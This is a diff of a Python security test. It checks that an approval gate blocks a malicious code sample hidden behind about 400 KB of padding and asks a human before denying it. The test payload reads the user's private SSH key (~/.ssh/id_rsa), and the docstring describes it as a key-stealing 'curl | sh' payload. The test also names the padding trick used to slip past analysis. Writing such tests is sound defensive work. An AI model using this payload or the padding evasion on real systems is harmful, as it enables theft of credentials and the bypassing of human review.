@@ -165,7 +165,7 @@ def test_padding_cannot_exhaust_the_analysis_into_an_approval(stack) -> None:
     key-stealing, `curl | sh` payload is not approved without a human."""
     import asyncio
 
-    padding = "".join(f"v{i} = {i}\n" for i in range(40_000))
+    padding = "".join(f"v{i} = {i}\n" for i in range(28_000))  # about 400 KB
     payload = (
         "import os, subprocess, urllib.request\n"
         "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
@@ -187,8 +187,8 @@ def test_padding_cannot_exhaust_the_analysis_into_an_approval(stack) -> None:
             if asked:
                 break
             await asyncio.sleep(0.2)
-        assert asked, "no human was asked"
-        assert asked["event"]["data"]["level"] == "blocked", asked["event"]["data"]["level"]
+        assert asked, f"no human was asked: {ks}"
+        assert asked["event"]["data"]["level"] == "BLOCKED", asked["event"]["data"]["level"]
         assert stack.airlock("override", "deny", rid, "--reason", "padding").returncode == 0
         end = (await terminal(mai, rid))["event"]["data"]
         assert end["outcome"] == "denied"
